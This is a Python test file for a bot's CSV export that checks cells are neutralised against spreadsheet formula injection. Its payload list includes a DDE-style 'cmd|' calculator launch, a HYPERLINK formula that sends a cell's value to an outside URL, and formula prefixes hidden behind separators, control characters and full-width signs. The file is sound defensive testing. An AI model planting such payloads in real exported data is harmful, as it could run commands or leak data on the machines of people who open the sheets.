"""A list opened in a spreadsheet holds text and nothing that is carried out."""

import csv
import io
import re
from collections.abc import AsyncIterator
from typing import Any

import pytest

from bot.services.sheets import COLUMNS, csv_line, csv_lines, safe_cell

_COMMANDS = ("1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://example.org/?"&A1,"click")', "SUM(1,2)")
PAYLOADS = [
    *(f"{sign}{command}" for sign in "=+-@＝＋－＠" for command in _COMMANDS),
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", '"=1+1"', "'=1+1", '"";=1+1', "a;=1+1", "a,@SUM(1)", "a\n+1",
    "a\r\n-1", 'x"\n=1+1', "sample|=1+1", "\t", "\r", '";"=1+1', "=\x00", "\u00a0=1+1", "-2+3+cmd|'/C calc'!A0",
]  # fmt: skip
HARMLESS = ["", "r0a1b2c3d4e5f6071", "blocked us meanwhile", "2026-12-01T10:00:00Z", "pa-Arab", "a - b", "x@y.example"]


def _row(**cells: Any) -> dict[str, Any]:
    return {**dict.fromkeys(COLUMNS), **cells}


def _starts(cell: str) -> list[str]:
    """What a program takes for the beginning of a cell: the cell's own, and after separators of other locales."""
    return [each.lstrip(' \u00a0"') for each in re.split(r"[,;\t\r\n|]", cell)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_begins_like_a_formula(payload: str) -> None:
    (read,) = csv.reader(io.StringIO(csv_line(_row(error=payload)), newline=""))
    cell = read[COLUMNS.index("error")]
    assert not any(each.startswith(tuple("=+-@＝＋－＠")) for each in _starts(cell)), cell
    assert not cell.startswith(("\t", "\r"))
    assert cell.replace("'", "") == payload.replace("'", ""), "nothing is lost but for the marks that were added"


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text
    (read,) = csv.reader(io.StringIO(csv_line(_row(error=text)), newline=""))
    assert read[COLUMNS.index("error")] == text


async def test_a_sheet_has_one_line_of_names() -> None:
    async def rows() -> AsyncIterator[dict[str, Any]]:
        yield _row(resident="r1", message="heat", revision=2, state="sent")

    lines = [line async for line in csv_lines(rows())]
    assert lines == [
        '"resident","message","revision","language","form","state","sent_at","error"\r\n',
        '"r1","heat","2","","","sent","",""\r\n',
    ]
